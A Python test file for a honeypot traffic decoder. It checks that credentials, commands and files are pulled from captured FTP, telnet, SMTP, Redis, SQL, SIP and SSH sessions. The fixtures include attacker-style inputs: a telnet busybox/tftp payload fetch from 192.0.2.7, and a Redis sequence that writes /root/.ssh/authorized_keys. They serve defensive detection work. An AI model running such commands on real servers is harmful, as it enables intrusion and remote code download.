"""Logins, statements and files of the databases and of mail, file and shell services."""

import base64

import pytest

from honeyguide.streams.conversation import Conversation, Turn
from honeyguide.streams.protocol import Credential, Decoded
from honeyguide.streams.protocols import decode
from honeyguide.streams.protocols.tds import revealed


def told(*turns: bytes | tuple[str, bytes], port: int = 0) -> Decoded:
    both = tuple(Turn("out" if isinstance(turn, tuple) else "in", turn[1] if isinstance(turn, tuple) else turn) for turn in turns)
    found = decode(Conversation(both, local_port=port))
    assert found is not None
    return found


def test_ftp() -> None:
    said = told(("out", b"220 FTP\r\n"), b"USER a\r\nPASS b c\r\nRETR x.bin\r\nMKD d\r\n")
    assert (said.protocol, said.credentials, said.files) == ("ftp", (Credential("a", "b c"),), ("x.bin",))
    assert said.commands == ("USER a", "PASS b c", "RETR x.bin", "MKD d")


def test_another_protocol_behind_ftps_greeting_is_itself() -> None:
    assert told(("out", b"220 FTP\r\n"), b"GET / HTTP/1.0\r\n\r\n").protocol == "http"


@pytest.mark.parametrize("separator", [b"\r\n", b"\n", b"\r\0"])
def test_telnet(separator: bytes) -> None:
    lines = (b"admin", b"12345", b"enable", b"sh", b"/bin/busybox ECCHI", b"tftp -g -l x -r y 192.0.2.7")
    said = told(b"\xff\xfd\x01" + separator.join(lines) + separator, port=23)
    assert said.protocol == "telnet"
    assert said.credentials == (Credential("admin", "12345"),)
    assert said.commands == ("enable", "sh", "/bin/busybox ECCHI", "tftp -g -l x -r y 192.0.2.7")


def test_smtp_in_both_ways_of_logging_in() -> None:
    secret = base64.b64encode(b"\0bob\0pw1")
    said = told(b"EHLO x\r\nAUTH PLAIN " + secret + b"\r\nMAIL FROM:<a@b.c>\r\n")
    assert said.credentials == (Credential("bob", "pw1"),)
    later = told(b"EHLO x\r\nAUTH PLAIN\r\n" + secret + b"\r\n")
    assert later.credentials == (Credential("bob", "pw1"),)


def test_smtp_keeps_mail_apart_from_commands() -> None:
    said = told(b"HELO x\r\nMAIL FROM:<a@b.c>\r\nRCPT TO:<d@e.f>\r\nDATA\r\nSubject: s\r\n\r\nQUIT is text\r\n.\r\nQUIT\r\n")
    assert said.commands == ("HELO x", "MAIL FROM:<a@b.c>", "RCPT TO:<d@e.f>", "DATA", "QUIT")
    assert said.fields["email.subject"] == "s"


def test_redis_names_the_file_that_would_be_written() -> None:
    said = told(b"CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\nSAVE\r\n")
    assert said.files == ("/root/.ssh/authorized_keys",)
    assert told(b"*3\r\n$4\r\nAUTH\r\n$3\r\nbob\r\n$2\r\npw\r\n").credentials == (Credential("bob", "pw"),)


def test_redis_says_where_an_array_breaks() -> None:
    said = told(b"*2\r\n$3\r\nGET\r\n$99\r\nshort\r\n")
    assert said.problem == "in, byte 18: argument 1 of 99 bytes where 7 are left"


def test_mysql_in_clear() -> None:
    flags = (0x00080000 | 0x8000 | 0x200 | 0x8).to_bytes(4, "little")
    login = flags + bytes(4) + b"\x21" + bytes(23) + b"root\0\5hello" + b"db\0mysql_clear_password\0"
    said = told(("out", b"\x0d\0\0\0\x0a5.7.16\0abcde"), len(login).to_bytes(3, "little") + b"\1" + login)
    assert said.credentials == (Credential("root", "hello"),)
    assert said.fields["honeypot.object"] == ["db"]


def test_mysql_keeps_the_response_where_there_is_no_password() -> None:
    login = (0x8200).to_bytes(4, "little") + bytes(4) + b"\x21" + bytes(23) + b"sa\0\x14" + bytes(range(20))
    said = told(("out", b"\x0d\0\0\0\x0a5.7.16\0abcde"), len(login).to_bytes(3, "little") + b"\1" + login)
    assert said.credentials == (Credential("sa", bytes(range(20)).hex(), "mysql"),)


def test_postgresql_knows_a_hash_from_a_password() -> None:
    body = b"\0\3\0\0user\0eve\0\0"
    start = (4 + len(body)).to_bytes(4, "big") + body
    hashed = b"md5" + b"0" * 32 + b"\0"
    said = told(start + b"p" + (4 + len(hashed)).to_bytes(4, "big") + hashed)
    assert said.credentials == (Credential("eve", "md5" + "0" * 32, "md5"),)


def test_tds_passwords_are_revealed() -> None:
    hidden = bytes((byte << 4 | byte >> 4) & 0xFF ^ 0xA5 for byte in "sa123".encode("utf-16-le"))
    assert revealed(hidden).decode("utf-16-le") == "sa123"


def test_a_tds_login_without_all_of_its_fields_is_read() -> None:
    texts = ("WIN", "test", "test", "OSQL-32", "192.0.2.1", "", "ODBC", "", "master")
    table = content = b""
    for index, text in enumerate(texts):
        data = text.encode("utf-16-le")
        table += (94 + len(content)).to_bytes(2, "little") + len(text).to_bytes(2, "little")
        content += bytes((byte << 4 | byte >> 4) & 0xFF ^ 0xA5 for byte in data) if index == 2 else data
    fixed = b"\1\0\0\x71" + b"\0\x10\0\0" + b"\7\0\0\0" + bytes(4) + b"\xe0\3\0\0" + bytes(4) + b"\x09\4\0\0"
    body = fixed + table + bytes(6) + (94 + len(content)).to_bytes(2, "little") + bytes(14) + content
    login = (4 + len(body)).to_bytes(4, "little") + body
    said = told(b"\x10\1" + (8 + len(login)).to_bytes(2, "big") + b"\0\0\1\0" + login)
    assert said.credentials == (Credential("test", "test"),)


def test_sip_registrations() -> None:
    said = told(
        b'REGISTER sip:192.0.2.1 SIP/2.0\r\nf: <sip:7@x>\r\nt: <sip:7@x>\r\nAuthorization: Digest username="7", response="ab"\r\n\r\n'
    )
    assert said.credentials == (Credential("7", "ab", "digest"),)
    assert said.fields["honeypot.sip.from"] == "sip:7@x"


def test_memcached_values_are_not_commands() -> None:
    said = told(b"set k 0 0 8\r\nget evil\r\nget k\r\n")
    assert said.fields["honeypot.operation"] == ["set", "get"]


def test_ssh_stops_guessing_once_it_is_encrypted() -> None:
    packet = b"\0\0\0\x0c\x0a\x15" + bytes(10)
    said = told(b"SSH-2.0-x\r\n" + packet + b"\xaa" * 64)
    assert [message.title for message in said.messages] == ["SSH-2.0-x", "NEWKEYS", "64 bytes, encrypted"]


def test_plain_lines_are_quoted_and_no_more() -> None:
    said = told(b"Subscribe\n")
    assert (said.protocol, said.summary) == ("text", "text: 'Subscribe'")
